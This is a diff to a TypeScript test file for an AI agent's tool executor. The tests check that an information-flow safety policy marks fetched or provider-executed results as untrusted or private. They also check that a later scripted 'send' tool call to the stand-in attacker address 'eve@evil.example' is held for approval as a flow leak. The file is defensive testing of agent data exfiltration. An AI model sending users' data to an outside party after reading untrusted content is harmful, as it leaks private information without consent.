@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { defineTool, SafetyPolicy, ToolError, ToolExecutor, ToolMetadataRegistry, type ToolEvent } from '../../src/index.js';
-import { chat, scriptedModel, Session, SessionStore } from '../../src/chat.js';
+import { chat, scriptedModel, Session, SessionStore, type ModelStep } from '../../src/chat.js';
 import { MemoryStateStore, type StateStore } from '../../src/state.js';
 
 const tools = [
@@ -81,6 +81,8 @@ describe('what was read in a conversation', () => {
     expect(await statusOf(one, send('3'))).toBe('ok');
     await one.restoreFlow('talk', { untrusted: { toolName: 'fetch', callId: '1', at: 0 } }); // A snapshot from before.
     expect(await one.flow('talk')).toEqual({});
+    await one.addFlow('talk', { private: { toolName: 'archive', callId: 'document 7', at: 0 } }); // In a message of the program's.
+    expect(await other.flow('talk')).toMatchObject({ private: { toolName: 'archive' } });
     await one.execute({ ...fetchCall, id: '4' }, { ...IN, userText: 'example.org' });
     expect(await statusOf(other, send('5'))).toBe('approval_required');
     await expect(one.clearFlow('talk', ['all'] as never)).rejects.toMatchObject({ code: 'INVALID_ARGUMENT' });
@@ -127,6 +129,20 @@ describe('a chat', () => {
     const { messages } = await chat({ model: scriptedModel([calling('a', 'fetch', { url: 'https://example.org/' }), 'read']), executor: executorOn(), prompt: 'Summarize example.org' });
     const { haltedReason } = await chat({ model: scriptedModel([calling('b', 'send', { to: 'eve@evil.example' }), 'done']), executor: executorOn(), messages: JSON.parse(JSON.stringify([...messages, { role: 'user', content: 'go on' }])) as never });
     expect(haltedReason).toBe('approval_required');
+  });
+
+  it('takes what the model’s own service looked up for anything, in the same answer too, and whatever a tool here is called', async () => {
+    const searched = { type: 'tool-call', toolCallId: 's', toolName: 'send', input: {}, providerExecuted: true };
+    const sending = { type: 'tool-call', toolCallId: 'b', toolName: 'send', input: { to: 'eve@evil.example' } };
+    const answering = (...content: object[]) => async function* (): ReturnType<ModelStep> {
+      yield await Promise.resolve({ type: 'answer', message: { role: 'assistant', content } as never, finishReason: 'tool-calls' });
+    };
+    const together = await Session.create().start({ model: answering(searched, sending), executor: executorOn() }, 'Search');
+    expect(together.session.pending).toMatchObject([{ callId: 'b', rule: 'flow-leaks' }]);
+    const open = JSON.parse(JSON.stringify(together.session)) as unknown;
+    const executor = executorOn();
+    await Session.fromJSON(open).deny('b').session.continue({ model: scriptedModel(['done']), executor });
+    expect(await executor.flow(together.session.id)).toMatchObject({ untrusted: { toolName: 'send', callId: 's' }, private: { callId: 's' } });
   });
 
   it('goes on from JSON with what its session has read', async () => {
